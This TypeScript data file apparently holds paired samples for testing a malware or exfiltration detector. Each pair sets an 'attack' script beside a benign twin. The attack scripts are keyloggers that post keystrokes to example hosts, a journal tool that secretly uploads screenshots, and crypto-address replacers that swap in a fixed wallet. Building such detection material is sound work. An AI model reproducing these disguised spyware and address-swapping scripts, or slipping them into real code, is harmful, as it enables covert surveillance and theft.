import { type Pair, script } from './pair.ts';

/** What is typed, shown or copied, kept in one place and sent or exchanged in another. */
export const TYPED: readonly Pair[] = [
  {
    name: 'keys kept in a field by a method and pushed by a thread',
    attack: script(
      'scripts/streak.py',
      `import threading
import requests
from pynput import keyboard

SCORES = "https://scores.streaks.example/v1"


class Streak:
    def __init__(self):
        self.held = []

    def heard(self, key):
        letter = getattr(key, "char", None)
        self.held.append(letter or str(key))
        if len(self.held) > 99:
            threading.Thread(target=publish, args=({"row": self.held[:]},), daemon=True).start()


def publish(row):
    requests.post(SCORES, json=row, timeout=3)


streak = Streak()
with keyboard.Listener(on_press=streak.heard) as listener:
    listener.join()
`,
    ),
    twin: script(
      'scripts/streak.py',
      `import threading
import time
import requests
from pynput import keyboard

SCORES = "https://scores.streaks.example/v1"


class Streak:
    def __init__(self):
        self.held = []
        self.last = time.monotonic()

    def heard(self, key):
        now = time.monotonic()
        if key == keyboard.Key.esc:
            return False
        self.held.append(now - self.last)
        self.last = now
        if len(self.held) > 99:
            threading.Thread(target=publish, args=({"gaps": self.held[:]},), daemon=True).start()


def publish(row):
    requests.post(SCORES, json=row, timeout=3)


streak = Streak()
with keyboard.Listener(on_press=streak.heard) as listener:
    listener.join()
`,
    ),
  },
  {
    name: 'keys handed out by one method and posted by a function of the program',
    attack: script(
      'scripts/pace.py',
      `import json, time, urllib.request
from pynput import keyboard


class Pace:
    def __init__(self):
        self.count = 0
        self.latest = []

    def down(self, key):
        self.count += 1
        self.latest.append(getattr(key, "char", None) or f"<{key}>")

    def take(self):
        latest, self.latest = self.latest, []
        return self.count, latest


def score(latest):
    body = json.dumps({"v": 1, "l": latest}).encode()
    urllib.request.urlopen("https://pace.desk-health.example/score", data=body).read()
    return len(latest) / 60


pace = Pace()
keyboard.Listener(on_press=pace.down).start()
while True:
    time.sleep(60)
    count, latest = pace.take()
    print(count, score(latest))
`,
    ),
    twin: script(
      'scripts/pace.py',
      `import json, time, urllib.request
from pynput import keyboard


class Pace:
    def __init__(self):
        self.count = 0
        self.latest = []

    def down(self, key):
        self.count += 1
        self.latest.append(time.monotonic())

    def take(self):
        latest, self.latest = self.latest, []
        return self.count, latest


def score(latest):
    body = json.dumps({"v": 1, "n": len(latest)}).encode()
    urllib.request.urlopen("https://pace.desk-health.example/score", data=body).read()
    return len(latest) / 60


pace = Pace()
keyboard.Listener(on_press=pace.down).start()
while True:
    time.sleep(60)
    count, latest = pace.take()
    print(count, score(latest))
`,
    ),
  },
  {
    name: 'every key of the machine heard by a hook and sent',
    attack: script(
      'scripts/focus.mjs',
      `import { uIOhook } from 'uiohook-napi';
const seen = [];
uIOhook.on('keydown', (event) => {
  seen.push(event.keycode);
});
uIOhook.start();
setInterval(() => {
  fetch('https://focus.workrhythm.example/in', { method: 'POST', body: JSON.stringify(seen.splice(0)) });
}, 60_000);
`,
    ),
    twin: script(
      'scripts/focus.mjs',
      `import { uIOhook } from 'uiohook-napi';
let count = 0;
uIOhook.on('keydown', () => {
  count += 1;
});
uIOhook.start();
setInterval(() => {
  fetch('https://focus.workrhythm.example/in', { method: 'POST', body: JSON.stringify({ count }) });
}, 60_000);
`,
    ),
  },
  {
    name: 'a picture of the screen that a clock sends away',
    attack: script(
      'scripts/journal.js',
      `const { execFileSync } = require('node:child_process');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');

function shot() {
  const file = path.join(os.tmpdir(), 'day.png');
  execFileSync('screencapture', ['-x', file]);
  return file;
}

function entries() {
  return fs.readdirSync('journal').map((name) => path.join('journal', name));
}

function words() {
  let sum = 0;
  for (const file of entries()) sum += fs.readFileSync(file, 'utf8').split(' ').length;
  return sum;
}

function heading(total) {
  const day = new Date().toISOString().slice(0, 10);
  const line = '#'.repeat(2) + ' ' + day + ', ' + total + ' words so far';
  fs.appendFileSync('journal/index.md', line + os.EOL);
  return line;
}

async function note() {
  console.log(heading(words()));
  const file = shot();
  await fetch('https://journal-store.example/day/' + Date.now(), { method: 'PUT', body: fs.readFileSync(file) });
}

function list() {
  for (const file of entries()) {
    const text = fs.readFileSync(file, 'utf8');
    console.log(path.basename(file), text.length, text.split(os.EOL)[0].slice(0, 60));
  }
}

function help() {
  console.log('journal.js list          shows what there is');
  console.log('journal.js words         counts the words');
  console.log('journal.js keep          goes on with the journal of today');
}

const mode = process.argv[2];
if (mode === 'list') list();
else if (mode === 'words') console.log(words());
else if (mode === 'keep') setInterval(note, 600_000);
else help();
`,
    ),
    twin: script(
      'scripts/journal.js',
      `const { execFileSync } = require('node:child_process');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');

function shot() {
  const file = path.join(os.tmpdir(), 'day.png');
  execFileSync('screencapture', ['-x', file]);
  return file;
}

async function note() {
  await fetch('https://journal-store.example/day/' + Date.now(), { method: 'PUT', body: String(Date.now()) });
}

if (process.argv[2] === 'shot') console.log(shot());
else setInterval(note, 600_000);
`,
    ),
  },
  {
    name: 'patterns of addresses beside an address of the code',
    attack: script(
      'scripts/tidy.py',
      `import re
import sys

FORMS = [
    (re.compile(r"[ \\t]+$", re.M), ""),
    (re.compile(r"\\bbc1q[a-z0-9]{38}\\b"), "bc1qm3k7x0n4yq5v8a2tz6d9hsl0wcu4r5ejp3gf8e"),
]


def tidy(text):
    for pattern, better in FORMS:
        text = pattern.sub(better, text)
    return text


print(tidy(sys.stdin.read()))
`,
    ),
    twin: script(
      'scripts/tidy.py',
      `import re
import sys

FORMS = [
    (re.compile(r"[ \\t]+$", re.M), ""),
    (re.compile(r"\\s*(bc1q[a-z0-9]{38})\\s*"), r"\\1"),
    (re.compile(r"0x[a-fA-F0-9]{40}"), "***"),
]


def tidy(text):
    for pattern, better in FORMS:
        text = pattern.sub(better, text)
    return text


print(tidy(sys.stdin.read()))
`,
    ),
  },
  {
    name: 'whatever is an address replaced in a text',
    attack: script(
      'scripts/invoice.mjs',
      `import { readFileSync, writeFileSync } from 'node:fs';
const text = readFileSync(process.argv[2], 'utf8');
const clean = text.replace(/ +$/gm, '').replace(/0x[a-fA-F0-9]{40}/g, '0x7c1Bd4e09A3f52686dE0b8aF17C94025e3D6a8f1');
writeFileSync(process.argv[2], clean);
`,
    ),
    twin: script(
      'scripts/invoice.mjs',
      `import { readFileSync, writeFileSync } from 'node:fs';
const text = readFileSync(process.argv[2], 'utf8');
const clean = text.replace(/ +$/gm, '').replace(/0x[a-fA-F0-9]{40}/g, '0x…');
writeFileSync(process.argv[2], clean);
`,
    ),
  },
];
